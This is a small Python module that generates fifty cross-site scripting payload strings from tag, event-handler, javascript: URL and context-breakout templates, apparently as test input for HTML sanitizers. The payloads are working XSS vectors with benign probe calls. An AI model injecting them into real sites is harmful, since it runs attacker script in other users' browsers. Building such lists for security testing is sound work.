"""What somebody might write to run a script in the browser of whoever reads it."""

_CALLS = ("alert(1)", "parent.owned=1")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=\"javascript:{}\"></iframe>",
    "<a href=\"javascript:{}\">here</a>",
    "<a href='data:text/html,<script>{}</script>'>here</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<form><button formaction=javascript:{}>x",
    "<object data=\"javascript:{}\">",
    "<template><script>{}</script></template>",
    "\"><img src=x onerror={}>",
    "' onmouseover='{}",
    "--><img src=x onerror={}><!--",
    "</textarea><img src=x onerror={}>",
    "</title><img src=x onerror={}>",
)  # fmt: skip
PAYLOADS = [tag.format(call) for tag in _TAGS for call in _CALLS]
"""Fifty of them."""
